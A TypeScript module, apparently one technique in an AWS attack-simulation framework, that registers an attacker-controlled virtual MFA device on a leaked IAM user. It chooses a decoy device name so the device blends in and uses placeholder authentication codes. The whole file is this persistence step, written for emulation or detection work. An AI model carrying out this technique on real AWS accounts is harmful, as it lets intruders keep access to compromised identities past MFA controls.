import type { Technique } from '../technique.ts';

/** A second factor of his own on the user: policies that ask for MFA now let him in. */
export const technique: Technique = {
  id: 'mfa-device',
  place: 'global',
  makes: ['AWS::IAM::VirtualMFADevice'],
  needs: ['iam:CreateVirtualMFADevice', 'iam:EnableMFADevice'],
  async play(act) {
    const name = act.name(['phone', 'authenticator', 'backup']);
    const { VirtualMFADevice } = await act.call('iam', 'CreateVirtualMFADevice', { VirtualMFADeviceName: name });
    const { SerialNumber } = VirtualMFADevice;
    act.made('AWS::IAM::VirtualMFADevice', SerialNumber, SerialNumber);
    act.attends('AWS::IAM::User', act.company.leakedUser, act.arn('iam', `user/${act.company.leakedUser}`));
    const codes = { AuthenticationCode1: '123456', AuthenticationCode2: '654321' };
    await act.call('iam', 'EnableMFADevice', { UserName: act.company.leakedUser, SerialNumber, ...codes });
  },
};
